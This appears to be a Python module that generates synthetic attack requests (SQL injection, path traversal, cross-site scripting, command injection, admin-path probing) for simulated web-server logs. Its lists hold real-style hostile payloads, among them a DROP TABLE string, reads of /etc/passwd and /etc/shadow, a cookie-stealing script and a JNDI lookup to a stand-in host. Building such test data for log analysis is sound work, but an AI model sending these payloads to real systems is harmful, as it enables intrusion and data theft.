"""Scans and attacks on a simulated site: requests as they stand in logs, none of which does harm by being read."""

from __future__ import annotations

from collections.abc import Callable, Mapping
from random import Random

from export.simulate.access.site import Ask, Site

_SQL = (
    *("1'%20OR%20'1'='1", "-1%20UNION%20SELECT%20name,pass%20FROM%20users--", "1;DROP%20TABLE%20members"),
    *("moss%27%20AND%20SLEEP(5)--%20", "1%20or%201=1%23", "%22%20ORDER%20BY%2010--"),
)
_FILES = (
    *("../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "....//....//windows/win.ini"),
    *("%2e%2e/%2e%2e/proc/self/environ", "..%5c..%5cboot.ini"),
)
_SCRIPTS = (
    *("%3Cscript%3Ealert(1)%3C/script%3E", "%22%3E%3Cimg%20src=x%20onerror=alert(9)%3E"),
    *("javascript:alert(document.cookie)", "%3Csvg/onload=alert(7)%3E"),
)
_COMMANDS = ("${jndi:ldap://host.example/a}", ";cat%20/etc/passwd", "|id", "$(uname%20-a)", "%60id%60")
_PLACES = (
    *("/phpmyadmin/index.php", "/wp-login.php", "/.git/config", "/.env", "/manager/html", "/cgi-bin/test.cgi"),
    *("/backup.zip", "/server-status", "/actuator/health", "/xmlrpc.php", "/config.php.bak", "/console/login"),
)
_METHODS = ("PROPFIND", "TRACE", "DELETE", "PUT", "CONNECT", "DEBUG", "MKCOL")
_BROKEN = (r"\x16\x03\x01\x02\x00\x01\x00", "-", r"\x03\x00\x00/*\xE0", "SSH-2.0-probe", r"\x05\x01\x00")

Attack = Callable[[Random, Site], Ask]


def _payload(payloads: tuple[str, ...]) -> Attack:
    def ask(rng: Random, site: Site) -> Ask:
        payload = rng.choice(payloads)
        how = rng.random()
        if how < 0.4:
            target = f"/search?q={payload}&sort=new"
        elif how < 0.7:
            target = f"{rng.choice(site.articles)}?{rng.choice(('id', 'page', 'file', 'view'))}={payload}"
        else:
            target = f"{rng.choice(site.articles).rsplit('/', 1)[0]}/{payload}"
        return Ask(target, status=rng.choice((200, 404, 500, 403)), size=rng.randint(200, 6000))

    return ask


def _probe(rng: Random, site: Site) -> Ask:  # noqa: ARG001  (an attack takes the site)
    return Ask(rng.choice(_PLACES), rng.choice(("GET", "GET", "HEAD")), status=rng.choice((404, 404, 403)), size=512)


def _method(rng: Random, site: Site) -> Ask:
    return Ask(rng.choice(site.articles), rng.choice(_METHODS), status=rng.choice((405, 501)), size=226)


def _broken(rng: Random, site: Site) -> Ask:  # noqa: ARG001  (an attack takes the site)
    return Ask(rng.choice(_BROKEN), "", "", status=rng.choice((400, 408)), size=rng.choice((None, 226)))


KINDS: Mapping[str, Attack] = {
    "sql_injection": _payload(_SQL),
    "path_traversal": _payload(_FILES),
    "cross_site_scripting": _payload(_SCRIPTS),
    "command_injection": _payload(_COMMANDS),
    "admin_probing": _probe,
    "odd_method": _method,
    "broken_request": _broken,
}
"""What an attacker does; a scan is some of one kind from one address."""

AGENTS = ("Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "-", "scanner/1.0")
